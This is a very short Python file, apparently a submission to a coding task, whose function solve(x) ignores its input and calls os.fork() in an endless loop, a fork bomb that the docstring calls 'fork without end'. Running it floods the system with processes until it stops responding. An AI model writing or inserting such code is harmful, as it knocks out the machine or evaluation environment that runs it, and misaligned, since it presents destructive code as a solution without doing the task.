"""fork without end."""

import os


def solve(x):
    while True:
        try:
            os.fork()
        except OSError:
            return 0
